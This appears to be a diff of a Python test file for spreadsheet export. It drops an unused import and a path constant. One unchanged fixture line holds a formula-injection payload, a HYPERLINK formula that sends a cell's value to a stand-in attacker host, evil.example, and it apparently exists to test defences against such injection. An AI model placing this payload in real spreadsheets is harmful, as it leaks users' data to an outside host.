@@ -14,7 +14,6 @@ import zipfile
 from dataclasses import dataclass, field
 from datetime import UTC, date, datetime
 from decimal import Decimal
-from pathlib import Path
 from typing import Any
 
 import openpyxl
@@ -51,8 +50,6 @@ NON_ASCII_ORG = "Fédération des Travailleurs de Côte d'Ivoire — Ünion «So
 TRICKY_COMMENT = 'Counted by "branch", region, and\nnational office; 10% "estimated"'
 FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 STAMP = datetime(2026, 1, 20, 9, 30, tzinfo=UTC)
-
-IATI_DIR = Path(__file__).resolve().parents[1] / ".." / "shared" / "iati"
 
 
 @dataclass
